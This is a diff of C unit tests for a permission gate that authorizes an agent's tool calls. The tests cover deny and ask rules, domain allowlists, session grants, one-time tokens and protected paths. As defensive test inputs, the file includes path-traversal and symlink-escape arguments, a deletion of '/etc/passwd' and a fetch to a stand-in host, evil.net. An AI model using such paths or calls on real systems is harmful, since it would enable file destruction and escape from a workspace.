@@ -59,27 +59,130 @@ static struct gate *gate_of(struct gate_policy *p)
 	return g;
 }
 
-/* Authorizes tool(args) and returns the verdict's action. Network tools
- * have the URL argument /url, the others none (as the built-in tools). */
+/* A call of tool outside any workspace. A network tool has the URL
+ * argument /url, the others none (as the built-in tools). */
+static struct gate_call plain_call(const char *tool, enum tc_risk risk)
+{
+	return (struct gate_call){ .tool = tool,
+		                   .risk = risk,
+		                   .url_arg = risk == TC_RISK_NETWORK ? "/url" : NULL,
+		                   .workspace_fd = -1 };
+}
+
+/* Authorizes call with args (takes them) and returns the verdict's action. */
+static enum gate_action authorize(struct gate *g, struct gate_call call, json_t *args,
+                                  struct gate_verdict *v)
+{
+	if (!args)
+		fail_msg("no args for %s", call.tool);
+	call.args = args;
+	gate_authorize(g, &call, v);
+	json_decref(args);
+	return v->action;
+}
+
+/* Authorizes tool(args), a plain_call. */
 static enum gate_action decide(struct gate *g, const char *tool, enum tc_risk risk,
                                const char *args, struct gate_verdict *v)
 {
-	json_t *a = J(args);
-	struct gate_call call = { .tool = tool,
-		                  .risk = risk,
-		                  .args = a,
-		                  .url_arg = risk == TC_RISK_NETWORK ? "/url" : NULL,
-		                  .session = 0,
-		                  .workspace_fd = -1 };
-	gate_authorize(g, &call, v);
-	json_decref(a);
-	return v->action;
+	return authorize(g, plain_call(tool, risk), J(args), v);
 }
 
 static void expect_reason(const struct gate_verdict *v, const char *want)
 {
 	if (!strstr(v->reason, want))
 		fail_msg("reason \"%s\" lacks \"%s\"", v->reason, want);
+}
+
+/* ---- the fixture ------------------------------------------------------------ */
+
+/* A workspace: src/a, tmp/ with tmp/lnk -> ../src, gitlink -> .git, and
+ * .git/config. */
+struct ws_fx {
+	char dir[64];
+	int fd;
+};
+
+static void ws_make(struct ws_fx *w)
+{
+	char cmd[256];
+	snprintf(w->dir, sizeof w->dir, "/tmp/test_gate.XXXXXX");
+	assert_non_null(mkdtemp(w->dir));
+	snprintf(cmd, sizeof cmd,
+	         "cd %s && mkdir -p src tmp .git && echo a > src/a && "
+	         "echo > .git/config && ln -s ../src tmp/lnk && ln -s .git gitlink",
+	         w->dir);
+	assert_int_equal(system(cmd), 0);
+	w->fd = open(w->dir, O_PATH | O_DIRECTORY | O_CLOEXEC);
+	assert_true(w->fd >= 0);
+}
+
+static void ws_free(struct ws_fx *w)
+{
+	char cmd[128];
+	close(w->fd);
+	snprintf(cmd, sizeof cmd, "rm -rf %s", w->dir);
+	assert_int_equal(system(cmd), 0);
+}
+
+/* Each test's policy, built into a gate at its first gate(f); the workspace
+ * is made for the path tests only (TW). Teardown frees what was made, so a
+ * failing assertion leaks nothing. */
+struct fx {
+	struct gate_policy p;
+	struct gate *g;
+	struct ws_fx w;
+};
+
+static int fx_setup(void **state)
+{
+	struct fx *f = calloc(1, sizeof *f);
+	if (!f)
+		return -1;
+	gate_policy_init(&f->p);
+	f->w.fd = -1;
+	*state = f;
+	return 0;
+}
+
+static int fx_setup_ws(void **state)
+{
+	if (fx_setup(state) < 0)
+		return -1;
+	ws_make(&((struct fx *)*state)->w);
+	return 0;
+}
+
+static int fx_teardown(void **state)
+{
+	struct fx *f = *state;
+	if (f->g)
+		gate_free(f->g);
+	else
+		gate_policy_release(&f->p);
+	if (f->w.fd >= 0)
+		ws_free(&f->w);
+	free(f);
+	return 0;
+}
+
+#define T(name)  cmocka_unit_test_setup_teardown(name, fx_setup, fx_teardown)
+#define TW(name) cmocka_unit_test_setup_teardown(name, fx_setup_ws, fx_teardown)
+
+/* The gate of the test's policy (made once). */
+static struct gate *gate(struct fx *f)
+{
+	if (!f->g)
+		f->g = gate_of(&f->p);
+	return f->g;
+}
+
+/* Frees the test's gate and starts a new default policy for the next. */
+static void fx_reset(struct fx *f)
+{
+	gate_free(f->g);
+	f->g = NULL;
+	gate_policy_init(&f->p);
 }
 
 /* ---- bail order -------------------------------------------------------- */
@@ -95,26 +198,21 @@ static enum gate_action counting_check(void *data, const struct gate_call *call,
 
 static void test_gate_quarantine_denies_before_rules(void **state)
 {
-	(void)state;
-	struct gate_policy p;
-	gate_policy_init(&p);
-	p.quarantine = true;
-	add_rule(&p, "{\"action\":\"deny\",\"tool\":\"write_file\",\"reason\":\"from rule\"}");
-	struct gate *g = gate_of(&p);
+	struct fx *f = *state;
+	f->p.quarantine = true;
+	add_rule(&f->p, "{\"action\":\"deny\",\"tool\":\"write_file\",\"reason\":\"from rule\"}");
+	struct gate *g = gate(f);
 	struct gate_verdict v;
 	assert_int_equal(decide(g, "write_file", TC_RISK_WRITE, "{}", &v), GATE_DENY);
 	assert_string_equal(v.check, "quarantine");
 	expect_reason(&v, "quarantine is on");
-	gate_free(g);
 }
 
 static void test_gate_quarantine_lets_read_only_through(void **state)
 {
-	(void)state;
-	struct gate_policy p;
-	gate_policy_init(&p);
-	p.quarantine = true;
-	struct gate *g = gate_of(&p);
+	struct fx *f = *state;
+	f->p.quarantine = true;
+	struct gate *g = gate(f);
 	struct gate_verdict v;
 	assert_int_equal(decide(g, "read_file", TC_RISK_READ_ONLY, "{}", &v), GATE_ALLOW);
 	gate_set_quarantine(g, false);
@@ -122,31 +220,25 @@ static void test_gate_quarantine_lets_read_only_through(void **state)
 	gate_set_quarantine(g, true);
 	assert_true(gate_quarantined(g));
 	assert_int_equal(decide(g, "write_file", TC_RISK_WRITE, "{}", &v), GATE_DENY);
-	gate_free(g);
 }
 
 static void test_gate_rule_deny_comes_before_policy(void **state)
 {
-	(void)state;
-	struct gate_policy p;
-	gate_policy_init(&p);
-	p.levels[TC_RISK_DESTRUCTIVE] = GATE_DENY;
-	add_rule(&p, "{\"action\":\"deny\",\"tool\":\"rm\",\"reason\":\"no rm\"}");
-	struct gate *g = gate_of(&p);
+	struct fx *f = *state;
+	f->p.levels[TC_RISK_DESTRUCTIVE] = GATE_DENY;
+	add_rule(&f->p, "{\"action\":\"deny\",\"tool\":\"rm\",\"reason\":\"no rm\"}");
+	struct gate *g = gate(f);
 	struct gate_verdict v;
 	assert_int_equal(decide(g, "rm", TC_RISK_DESTRUCTIVE, "{}", &v), GATE_DENY);
 	assert_string_equal(v.check, "rules");
 	expect_reason(&v, "denied by the rule at test: /policy/rules/0: no rm");
-	gate_free(g);
 }
 
 static void test_gate_first_deny_bails_before_embedder_checks(void **state)
 {
-	(void)state;
-	struct gate_policy p;
-	gate_policy_init(&p);
-	p.levels[TC_RISK_WRITE] = GATE_DENY;
-	struct gate *g = gate_of(&p);
+	struct fx *f = *state;
+	f->p.levels[TC_RISK_WRITE] = GATE_DENY;
+	struct gate *g = gate(f);
 	enum gate_action allow = GATE_ALLOW;
 	assert_int_equal(gate_add_check(g, "mine", counting_check, &allow, NULL, NULL), 0);
 	calls_seen = 0;
@@ -156,58 +248,47 @@ static void test_gate_first_deny_bails_before_embedder_checks(void **state)
 	assert_int_equal(calls_seen, 0);
 	assert_int_equal(decide(g, "r", TC_RISK_READ_ONLY, "{}", &v), GATE_ALLOW);
 	assert_int_equal(calls_seen, 1);
-	gate_free(g);
 }
 
 static void test_gate_later_deny_overrides_earlier_ask(void **state)
 {
-	(void)state;
-	struct gate_policy p;
-	gate_policy_init(&p); /* destructive: ask */
-	struct gate *g = gate_of(&p);
+	struct fx *f = *state;
+	/* the default policy: destructive calls ask */
+	struct gate *g = gate(f);
 	enum gate_action deny = GATE_DENY;
 	assert_int_equal(gate_add_check(g, "veto", counting_check, &deny, NULL, NULL), 0);
 	struct gate_verdict v;
 	assert_int_equal(decide(g, "rm", TC_RISK_DESTRUCTIVE, "{}", &v), GATE_DENY);
 	assert_string_equal(v.check, "veto");
 	expect_reason(&v, "the gate check veto said deny");
-	gate_free(g);
 }
 
 static void test_gate_ask_keeps_first_asking_reason(void **state)
 {
-	(void)state;
-	struct gate_policy p;
-	gate_policy_init(&p);
-	add_rule(&p, "{\"action\":\"ask\",\"tool\":\"rm\",\"reason\":\"rule asks\"}");
-	struct gate *g = gate_of(&p);
+	struct fx *f = *state;
+	add_rule(&f->p, "{\"action\":\"ask\",\"tool\":\"rm\",\"reason\":\"rule asks\"}");
+	struct gate *g = gate(f);
 	struct gate_verdict v;
 	assert_int_equal(decide(g, "rm", TC_RISK_DESTRUCTIVE, "{}", &v), GATE_ASK);
 	assert_string_equal(v.check, "rules");
 	expect_reason(&v, "rule asks");
-	gate_free(g);
 }
 
 static void test_gate_allow_rule_does_not_silence_policy_ask(void **state)
 {
-	(void)state;
-	struct gate_policy p;
-	gate_policy_init(&p);
-	add_rule(&p, "{\"action\":\"allow\",\"tool\":\"rm\"}");
-	struct gate *g = gate_of(&p);
+	struct fx *f = *state;
+	add_rule(&f->p, "{\"action\":\"allow\",\"tool\":\"rm\"}");
+	struct gate *g = gate(f);
 	struct gate_verdict v;
 	assert_int_equal(decide(g, "rm", TC_RISK_DESTRUCTIVE, "{}", &v), GATE_ASK);
 	assert_string_equal(v.check, "policy");
 	expect_reason(&v, "policy.levels.destructive is ask");
-	gate_free(g);
 }
 
 static void test_gate_embedder_check_disposer_removes_it(void **state)
 {
-	(void)state;
-	struct gate_policy p;
-	gate_policy_init(&p);
-	struct gate *g = gate_of(&p);
+	struct fx *f = *state;
+	struct gate *g = gate(f);
 	enum gate_action deny = GATE_DENY;
 	struct tc_disposer d;
 	assert_int_equal(gate_add_check(g, "veto", counting_check, &deny, &d, NULL), 0);
@@ -216,7 +297,6 @@ static void test_gate_embedder_check_disposer_removes_it(void **state)
 	tc_dispose(&d);
 	tc_dispose(&d);
 	assert_int_equal(decide(g, "r", TC_RISK_READ_ONLY, "{}", &v), GATE_ALLOW);
-	gate_free(g);
 }
 
 static enum gate_action bogus_check(void *data, const struct gate_call *call,
@@ -228,29 +308,24 @@ static enum gate_action bogus_check(void *data, const struct gate_call *call,
 
 static void test_gate_invalid_check_answer_denies(void **state)
 {
-	(void)state;
-	struct gate_policy p;
-	gate_policy_init(&p);
-	struct gate *g = gate_of(&p);
+	struct fx *f = *state;
+	struct gate *g = gate(f);
 	assert_int_equal(gate_add_check(g, "bogus", bogus_check, NULL, NULL, NULL), 0);
 	struct gate_verdict v;
 	assert_int_equal(decide(g, "r", TC_RISK_READ_ONLY, "{}", &v), GATE_DENY);
 	expect_reason(&v, "invalid answer");
-	gate_free(g);
 }
 
 /* ---- rules ----------------------------------------------------------------- */
 
 static void test_rules_deny_checked_before_earlier_allow(void **state)
 {
-	(void)state;
-	struct gate_policy p;
-	gate_policy_init(&p);
-	add_rule(&p, "{\"action\":\"allow\",\"tool\":\"write_file\"}");
+	struct fx *f = *state;
+	add_rule(&f->p, "{\"action\":\"allow\",\"tool\":\"write_file\"}");
 	add_rule(
-	        &p,
+	        &f->p,
 	        "{\"action\":\"deny\",\"tool\":\"write_file\",\"args\":{\"/path\":\"**/.git/**\"}}");
-	struct gate *g = gate_of(&p);
+	struct gate *g = gate(f);
 	struct gate_verdict v;
 	assert_int_equal(decide(g, "write_file", TC_RISK_WRITE, "{\"path\":\"a/.git/config\"}", &v),
 	                 GATE_DENY);
@@ -258,47 +333,38 @@ static void test_rules_deny_checked_before_earlier_allow(void **state)
 	assert_int_equal(decide(g, "write_file", TC_RISK_WRITE, "{\"path\":\"a/b.txt\"}", &v),
 	                 GATE_ALLOW);
 	assert_true(v.audit);
-	gate_free(g);
 }
 
 static void test_rules_first_non_deny_match_wins(void **state)
 {
-	(void)state;
-	struct gate_policy p;
-	gate_policy_init(&p);
-	p.levels[TC_RISK_DESTRUCTIVE] = GATE_ALLOW;
-	add_rule(&p, "{\"action\":\"allow\",\"tool\":\"rm\",\"args\":{\"/path\":\"tmp/**\"}}");
-	add_rule(&p, "{\"action\":\"ask\",\"tool\":\"rm\"}");
-	struct gate *g = gate_of(&p);
+	struct fx *f = *state;
+	f->p.levels[TC_RISK_DESTRUCTIVE] = GATE_ALLOW;
+	add_rule(&f->p, "{\"action\":\"allow\",\"tool\":\"rm\",\"args\":{\"/path\":\"tmp/**\"}}");
+	add_rule(&f->p, "{\"action\":\"ask\",\"tool\":\"rm\"}");
+	struct gate *g = gate(f);
 	struct gate_verdict v;
 	assert_int_equal(decide(g, "rm", TC_RISK_DESTRUCTIVE, "{\"path\":\"tmp/x\"}", &v),
 	                 GATE_ALLOW);
 	assert_int_equal(decide(g, "rm", TC_RISK_DESTRUCTIVE, "{\"path\":\"src/x\"}", &v),
 	                 GATE_ASK);
 	expect_reason(&v, "/policy/rules/1");
-	gate_free(g);
 }
 
 static void test_rules_missing_argument_does_not_match(void **state)
 {
-	(void)state;
-	struct gate_policy p;
-	gate_policy_init(&p);
-	add_rule(&p, "{\"action\":\"deny\",\"tool\":\"*\",\"args\":{\"/path\":\"**\"}}");
-	struct gate *g = gate_of(&p);
+	struct fx *f = *state;
+	add_rule(&f->p, "{\"action\":\"deny\",\"tool\":\"*\",\"args\":{\"/path\":\"**\"}}");
+	struct gate *g = gate(f);
 	struct gate_verdict v;
 	assert_int_equal(decide(g, "t", TC_RISK_READ_ONLY, "{\"other\":\"x\"}", &v), GATE_ALLOW);
 	assert_int_equal(decide(g, "t", TC_RISK_READ_ONLY, "{\"path\":\"\"}", &v), GATE_DENY);
-	gate_free(g);
 }
 
 static void test_rules_match_numbers_and_bools_as_json_text(void **state)
 {
-	(void)state;
-	struct gate_policy p;
-	gate_policy_init(&p);
-	add_rule(&p, "{\"action\":\"deny\",\"args\":{\"/n\":\"1?\",\"/force\":\"true\"}}");
-	struct gate *g = gate_of(&p);
+	struct fx *f = *state;
+	add_rule(&f->p, "{\"action\":\"deny\",\"args\":{\"/n\":\"1?\",\"/force\":\"true\"}}");
+	struct gate *g = gate(f);
 	struct gate_verdict v;
 	assert_int_equal(decide(g, "t", TC_RISK_READ_ONLY, "{\"n\":12,\"force\":true}", &v),
 	                 GATE_DENY);
@@ -306,20 +372,16 @@ static void test_rules_match_numbers_and_bools_as_json_text(void **state)
 	                 GATE_ALLOW);
 	assert_int_equal(decide(g, "t", TC_RISK_READ_ONLY, "{\"n\":12,\"force\":\"yes\"}", &v),
 	                 GATE_ALLOW);
-	gate_free(g);
 }
 
 static void test_rules_tool_glob_matches_names(void **state)
 {
-	(void)state;
-	struct gate_policy p;
-	gate_policy_init(&p);
-	add_rule(&p, "{\"action\":\"deny\",\"tool\":\"net_*\"}");
-	struct gate *g = gate_of(&p);
+	struct fx *f = *state;
+	add_rule(&f->p, "{\"action\":\"deny\",\"tool\":\"net_*\"}");
+	struct gate *g = gate(f);
 	struct gate_verdict v;
 	assert_int_equal(decide(g, "net_fetch", TC_RISK_READ_ONLY, "{}", &v), GATE_DENY);
 	assert_int_equal(decide(g, "fetch_net", TC_RISK_READ_ONLY, "{}", &v), GATE_ALLOW);
-	gate_free(g);
 }
 
 static void expect_rule_error(const char *text, const char *where, const char *msg)
@@ -471,18 +533,15 @@ static void test_pointer_finds_nested_and_escaped_keys(void **state)
 
 static void test_rules_match_escaped_pointer_arguments(void **state)
 {
-	(void)state;
-	struct gate_policy p;
-	gate_policy_init(&p);
-	add_rule(&p, "{\"action\":\"deny\",\"args\":{\"/opts/a~1b\":\"x*\"}}");
-	struct gate *g = gate_of(&p);
+	struct fx *f = *state;
+	add_rule(&f->p, "{\"action\":\"deny\",\"args\":{\"/opts/a~1b\":\"x*\"}}");
+	struct gate *g = gate(f);
 	struct gate_verdict v;
 	assert_int_equal(decide(g, "t", TC_RISK_READ_ONLY, "{\"opts\":{\"a/b\":\"xyz\"}}", &v),
 	                 GATE_DENY);
 	assert_int_equal(decide(g, "t", TC_RISK_READ_ONLY, "{\"opts\":{\"a\":{\"b\":\"xyz\"}}}",
 	                        &v),
 	                 GATE_ALLOW);
-	gate_free(g);
 }
 
 /* ---- URL hosts and domains ---------------------------------------------- */
@@ -621,11 +680,9 @@ static void test_domain_check_normalizes_and_refuses(void **state)
 
 static void test_network_policy_uses_allowlist(void **state)
 {
-	(void)state;
-	struct gate_policy p;
-	gate_policy_init(&p);
-	add_domain(&p, "example.com");
-	struct gate *g = gate_of(&p);
+	struct fx *f = *state;
+	add_domain(&f->p, "example.com");
+	struct gate *g = gate(f);
 	struct gate_verdict v;
 	assert_int_equal(decide(g, "fetch", TC_RISK_NETWORK, "{\"url\":\"https://example.com/a\"}",
 	                        &v),
@@ -647,59 +704,46 @@ static void test_network_policy_uses_allowlist(void **state)
 	expect_reason(&v, "cannot be used");
 	assert_int_equal(decide(g, "fetch", TC_RISK_NETWORK, "{\"other\":1}", &v), GATE_DENY);
 	expect_reason(&v, "missing");
-	gate_free(g);
 }
 
 static void test_network_policy_empty_allowlist_denies(void **state)
 {
-	(void)state;
-	struct gate_policy p;
-	gate_policy_init(&p);
-	struct gate *g = gate_of(&p);
+	struct fx *f = *state;
+	struct gate *g = gate(f);
 	struct gate_verdict v;
 	assert_int_equal(decide(g, "fetch", TC_RISK_NETWORK, "{\"url\":\"https://example.com\"}",
 	                        &v),
 	                 GATE_DENY);
 	expect_reason(&v, "allowlist (policy.domains) is empty");
-	gate_free(g);
 }
 
 static void test_network_policy_ask_level_asks_for_unlisted_hosts(void **state)
 {
-	(void)state;
-	struct gate_policy p;
-	gate_policy_init(&p);
-	p.levels[TC_RISK_NETWORK] = GATE_ASK;
-	add_domain(&p, "*.example.com");
-	struct gate *g = gate_of(&p);
+	struct fx *f = *state;
+	f->p.levels[TC_RISK_NETWORK] = GATE_ASK;
+	add_domain(&f->p, "*.example.com");
+	struct gate *g = gate(f);
 	struct gate_verdict v;
 	assert_int_equal(decide(g, "f", TC_RISK_NETWORK, "{\"url\":\"https://a.example.com\"}", &v),
 	                 GATE_ALLOW);
 	assert_int_equal(decide(g, "f", TC_RISK_NETWORK, "{\"url\":\"https://example.com\"}", &v),
 	                 GATE_ASK);
-	gate_free(g);
 }
 
 static void test_network_tool_without_url_arg_is_denied(void **state)
 {
-	(void)state;
-	struct gate_policy p;
-	gate_policy_init(&p);
-	add_domain(&p, "example.com");
-	struct gate *g = gate_of(&p);
+	struct fx *f = *state;
+	add_domain(&f->p, "example.com");
+	struct gate *g = gate(f);
 	json_t *a = J("{\"url\":\"https://example.com\"}");
-	struct gate_call call = { .tool = "f",
-		                  .risk = TC_RISK_NETWORK,
-		                  .args = a,
-		                  .url_arg = NULL,
-		                  .session = 0,
-		                  .workspace_fd = -1 };
+	struct gate_call call = plain_call("f", TC_RISK_NETWORK);
+	call.args = a;
+	call.url_arg = NULL;
 	struct gate_verdict v;
 	gate_authorize(g, &call, &v);
 	assert_int_equal(v.action, GATE_DENY);
 	expect_reason(&v, "declares no URL argument");
 	json_decref(a);
-	gate_free(g);
 }
 
 /* A manifest's risk ["network", "destructive"] is destructive, but the
@@ -707,33 +751,26 @@ static void test_network_tool_without_url_arg_is_denied(void **state)
  * policy.levels.network hold for it as for a network tool. */
 static void test_destructive_tool_with_url_arg_keeps_the_allowlist(void **state)
 {
-	(void)state;
-	struct gate_policy p;
-	gate_policy_init(&p);
-	p.levels[TC_RISK_DESTRUCTIVE] = GATE_ALLOW;
-	add_domain(&p, "example.com");
-	struct gate *g = gate_of(&p);
+	struct fx *f = *state;
+	f->p.levels[TC_RISK_DESTRUCTIVE] = GATE_ALLOW;
+	add_domain(&f->p, "example.com");
+	struct gate *g = gate(f);
 	struct gate_verdict v;
 	json_t *ok = J("{\"url\":\"https://example.com/x\"}");
 	json_t *off = J("{\"url\":\"https://evil.net/x\"}");
-	struct gate_call call = { .tool = "purge",
-		                  .risk = TC_RISK_DESTRUCTIVE,
-		                  .args = ok,
-		                  .url_arg = "/url",
-		                  .session = 0,
-		                  .workspace_fd = -1 };
+	struct gate_call call = plain_call("purge", TC_RISK_DESTRUCTIVE);
+	call.args = ok;
+	call.url_arg = "/url";
 	gate_authorize(g, &call, &v);
 	assert_int_equal(v.action, GATE_ALLOW);
 	call.args = off;
 	gate_authorize(g, &call, &v);
 	assert_int_equal(v.action, GATE_DENY);
 	expect_reason(&v, "host evil.net is not on the domain allowlist");
-	gate_free(g);
-
-	gate_policy_init(&p);
-	add_domain(&p, "example.com");
-	p.levels[TC_RISK_NETWORK] = GATE_DENY;
-	g = gate_of(&p);
+	fx_reset(f);
+	add_domain(&f->p, "example.com");
+	f->p.levels[TC_RISK_NETWORK] = GATE_DENY;
+	g = gate(f);
 	call.args = ok;
 	gate_authorize(g, &call, &v);
 	assert_int_equal(v.action, GATE_DENY);
@@ -743,17 +780,14 @@ static void test_destructive_tool_with_url_arg_keeps_the_allowlist(void **state)
 	assert_int_equal(v.action, GATE_ASK);
 	json_decref(ok);
 	json_decref(off);
-	gate_free(g);
 }
 
 static void test_policy_levels_are_configurable(void **state)
 {
-	(void)state;
-	struct gate_policy p;
-	gate_policy_init(&p);
-	p.levels[TC_RISK_READ_ONLY] = GATE_ASK;
-	p.levels[TC_RISK_DESTRUCTIVE] = GATE_DENY;
-	struct gate *g = gate_of(&p);
+	struct fx *f = *state;
+	f->p.levels[TC_RISK_READ_ONLY] = GATE_ASK;
+	f->p.levels[TC_RISK_DESTRUCTIVE] = GATE_DENY;
+	struct gate *g = gate(f);
 	struct gate_verdict v;
 	assert_int_equal(decide(g, "r", TC_RISK_READ_ONLY, "{}", &v), GATE_ASK);
 	assert_false(v.audit);
@@ -761,17 +795,14 @@ static void test_policy_levels_are_configurable(void **state)
 	assert_true(v.audit);
 	assert_int_equal(decide(g, "d", TC_RISK_DESTRUCTIVE, "{}", &v), GATE_DENY);
 	expect_reason(&v, "policy.levels.destructive is deny");
-	gate_free(g);
 }
 
 /* ---- session grants and tokens ---------------------------------------- */
 
 static void test_session_grant_allows_identical_call(void **state)
 {
-	(void)state;
-	struct gate_policy p;
-	gate_policy_init(&p);
-	struct gate *g = gate_of(&p);
+	struct fx *f = *state;
+	struct gate *g = gate(f);
 	json_t *args = J("{\"path\":\"x\",\"force\":true}");
 	assert_int_equal(gate_grant_session(g, 0, "rm", args, NULL), 0);
 	assert_int_equal(gate_grant_session(g, 0, "rm", args, NULL), 0); /* no duplicate */
@@ -795,24 +826,18 @@ static void test_session_grant_allows_identical_call(void **state)
 	json_decref(want);
 	json_decref(list);
 	json_decref(args);
-	gate_free(g);
 }
 
 static void test_session_grant_applies_in_its_own_session_only(void **state)
 {
-	(void)state;
-	struct gate_policy p;
-	gate_policy_init(&p);
-	struct gate *g = gate_of(&p);
+	struct fx *f = *state;
+	struct gate *g = gate(f);
 	json_t *args = J("{\"path\":\"x\"}");
 	assert_int_equal(gate_grant_session(g, 7, "rm", args, NULL), 0);
 	struct gate_verdict v;
-	struct gate_call call = { .tool = "rm",
-		                  .risk = TC_RISK_DESTRUCTIVE,
-		                  .args = args,
-		                  .url_arg = NULL,
-		                  .session = 7,
-		                  .workspace_fd = -1 };
+	struct gate_call call = plain_call("rm", TC_RISK_DESTRUCTIVE);
+	call.args = args;
+	call.session = 7;
 	gate_authorize(g, &call, &v);
 	assert_int_equal(v.action, GATE_ALLOW);
 	assert_true(v.granted);
@@ -830,16 +855,14 @@ static void test_session_grant_applies_in_its_own_session_only(void **state)
 	gate_authorize(g, &call, &v);
 	assert_int_equal(v.action, GATE_ASK);
 	json_decref(args);
-	gate_free(g);
 }
 
 static void test_session_grant_never_lifts_a_deny(void **state)
 {
-	(void)state;
-	struct gate_policy p;
-	gate_policy_init(&p);
-	add_rule(&p, "{\"action\":\"deny\",\"tool\":\"rm\",\"args\":{\"/path\":\"**/.git/**\"}}");
-	struct gate *g = gate_of(&p);
+	struct fx *f = *state;
+	add_rule(&f->p,
+	         "{\"action\":\"deny\",\"tool\":\"rm\",\"args\":{\"/path\":\"**/.git/**\"}}");
+	struct gate *g = gate(f);
 	json_t *args = J("{\"path\":\".git/x\"}");
 	assert_int_equal(gate_grant_session(g, 0, "rm", args, NULL), 0);
 	struct gate_verdict v;
@@ -851,15 +874,12 @@ static void test_session_grant_never_lifts_a_deny(void **state)
 	assert_int_equal(decide(g, "rm", TC_RISK_DESTRUCTIVE, "{\"path\":\"ok\"}", &v), GATE_DENY);
 	json_decref(a2);
 	json_decref(args);
-	gate_free(g);
 }
 
 static void test_token_is_used_once(void **state)
 {
-	(void)state;
-	struct gate_policy p;
-	gate_policy_init(&p);
-	struct gate *g = gate_of(&p);
+	struct fx *f = *state;
+	struct gate *g = gate(f);
 	json_t *args = J("{\"b\":1,\"a\":[1,2]}");
 	json_t *same = J("{\"a\":[1,2],\"b\":1}");
 	uint64_t t = gate_grant_once(g, "rm", args);
@@ -868,15 +888,12 @@ static void test_token_is_used_once(void **state)
 	assert_int_equal(gate_consume(g, t, "rm", same), -1);
 	json_decref(args);
 	json_decref(same);
-	gate_free(g);
 }
 
 static void test_token_refuses_changed_arguments_and_is_revoked(void **state)
 {
-	(void)state;
-	struct gate_policy p;
-	gate_policy_init(&p);
-	struct gate *g = gate_of(&p);
+	struct fx *f = *state;
+	struct gate *g = gate(f);
 	json_t *args = J("{\"path\":\"a\"}");
 	json_t *other = J("{\"path\":\"b\"}");
 	uint64_t t = gate_grant_once(g, "rm", args);
@@ -887,15 +904,12 @@ static void test_token_refuses_changed_arguments_and_is_revoked(void **state)
 	assert_int_equal(gate_consume(g, t2, "rmdir", args), -1);
 	json_decref(args);
 	json_decref(other);
-	gate_free(g);
 }
 
 static void test_token_revoke_and_unknown_tokens(void **state)
 {
-	(void)state;
-	struct gate_policy p;
-	gate_policy_init(&p);
-	struct gate *g = gate_of(&p);
+	struct fx *f = *state;
+	struct gate *g = gate(f);
 	json_t *args = J("{}");
 	uint64_t t = gate_grant_once(g, "rm", args);
 	gate_revoke(g, t);
@@ -903,7 +917,6 @@ static void test_token_revoke_and_unknown_tokens(void **state)
 	assert_int_equal(gate_consume(g, 0, "rm", args), -1);
 	assert_int_equal(gate_consume(g, 12345, "rm", args), -1);
 	json_decref(args);
-	gate_free(g);
 }
 
 static void test_policy_copy_is_deep(void **state)
@@ -926,35 +939,6 @@ static void test_policy_copy_is_deep(void **state)
 
 /* ---- path arguments ------------------------------------------------------ */
 
-/* A workspace: src/a, tmp/ with tmp/lnk -> ../src, gitlink -> .git, and
- * .git/config. */
-struct ws_fx {
-	char dir[64];
-	int fd;
-};
-
-static void ws_make(struct ws_fx *w)
-{
-	char cmd[256];
-	snprintf(w->dir, sizeof w->dir, "/tmp/test_gate.XXXXXX");
-	assert_non_null(mkdtemp(w->dir));
-	snprintf(cmd, sizeof cmd,
-	         "cd %s && mkdir -p src tmp .git && echo a > src/a && "
-	         "echo > .git/config && ln -s ../src tmp/lnk && ln -s .git gitlink",
-	         w->dir);
-	assert_int_equal(system(cmd), 0);
-	w->fd = open(w->dir, O_PATH | O_DIRECTORY | O_CLOEXEC);
-	assert_true(w->fd >= 0);
-}
-
-static void ws_free(struct ws_fx *w)
-{
-	char cmd[128];
-	close(w->fd);
-	snprintf(cmd, sizeof cmd, "rm -rf %s", w->dir);
-	assert_int_equal(system(cmd), 0);
-}
-
 static const char *const one_path[] = { "/path", NULL };
 static const char *const two_paths[] = { "/source", "/destination", NULL };
 static const char *const protected_list[] = {
@@ -962,100 +946,89 @@ static const char *const protected_list[] = {
 	"**/.git/hooks", "**/*.code-workspace", NULL
 };
 
+/* A call of tool in the workspace w, with the protected paths above. */
+static struct gate_call ws_call(const struct ws_fx *w, const char *tool, enum tc_risk risk)
+{
+	return (struct gate_call){ .tool = tool,
+		                   .risk = risk,
+		                   .workspace = w->dir,
+		                   .workspace_fd = w->fd,
+		                   .protected_paths = protected_list };
+}
+
 static enum gate_action decide_paths(struct gate *g, const struct ws_fx *w, const char *tool,
                                      enum tc_risk risk, const char *const *path_args,
                                      const char *args, struct gate_verdict *v)
 {
-	json_t *a = J(args);
-	struct gate_call call = { .tool = tool,
-		                  .risk = risk,
-		                  .args = a,
-		                  .path_args = path_args,
-		                  .workspace = w->dir,
-		                  .workspace_fd = w->fd,
-		                  .protected_paths = protected_list };
-	gate_authorize(g, &call, v);
-	json_decref(a);
-	return v->action;
+	struct gate_call call = ws_call(w, tool, risk);
+	call.path_args = path_args;
+	return authorize(g, call, J(args), v);
 }
 
 /* docs/config.md's example: tmp/ without asking, anything else asks. */
-static struct gate *tmp_policy(void)
+static struct gate *tmp_gate(struct fx *f)
 {
-	struct gate_policy p;
-	gate_policy_init(&p);
-	p.levels[TC_RISK_DESTRUCTIVE] = GATE_ALLOW;
-	add_rule(&p, "{\"action\": \"allow\", \"tool\": \"*\", \"path\": \"tmp/**\"}");
-	add_rule(&p, "{\"action\": \"ask\", \"tool\": \"*\"}");
-	return gate_of(&p);
+	f->p.levels[TC_RISK_DESTRUCTIVE] = GATE_ALLOW;
+	add_rule(&f->p, "{\"action\": \"allow\", \"tool\": \"*\", \"path\": \"tmp/**\"}");
+	add_rule(&f->p, "{\"action\": \"ask\", \"tool\": \"*\"}");
+	return gate(f);
 }
 
 /* "tmp/../src" is src: an allow rule on everything below tmp must not let
  * it through, nor a path whose way goes through a symbolic link out of tmp. */
 static void test_gate_path_allow_rule_sees_through_dotdot_and_links(void **state)
 {
-	(void)state;
-	struct ws_fx w;
+	struct fx *f = *state;
 	struct gate_verdict v;
-	ws_make(&w);
-	struct gate *g = tmp_policy();
+	struct gate *g = tmp_gate(f);
 	const char *asks[] = { "{\"path\": \"tmp/../src\"}",  "{\"path\": \"tmp/lnk/a\"}",
 		               "{\"path\": \"tmp/lnk\"}",     "{\"path\": \"tmp/../../x\"}",
 		               "{\"path\": \"/etc/passwd\"}", "{\"path\": \"src\"}" };
 	for (size_t i = 0; i < sizeof asks / sizeof *asks; i++)
-		if (decide_paths(g, &w, "delete_path", TC_RISK_DESTRUCTIVE, one_path, asks[i],
+		if (decide_paths(g, &f->w, "delete_path", TC_RISK_DESTRUCTIVE, one_path, asks[i],
 		                 &v) != GATE_ASK)
 			fail_msg("%s was not asked about: %s", asks[i], v.reason);
